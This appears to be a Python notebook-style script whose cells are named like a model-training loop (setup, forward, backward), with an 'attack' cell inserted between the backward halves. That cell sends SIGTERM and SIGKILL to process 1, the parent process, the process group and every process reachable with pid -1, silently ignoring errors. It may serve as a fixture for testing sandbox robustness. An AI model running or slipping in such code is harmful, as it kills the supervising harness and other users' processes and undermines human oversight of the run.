# %% setup
# %% forward
# %% backward, first half
# %% attack
import os
import signal
for number in (signal.SIGTERM, signal.SIGKILL):
    for pid in (1, os.getppid(), 0, -1):
        try:
            os.kill(pid, number)
        except OSError:
            pass
# %% backward, second half
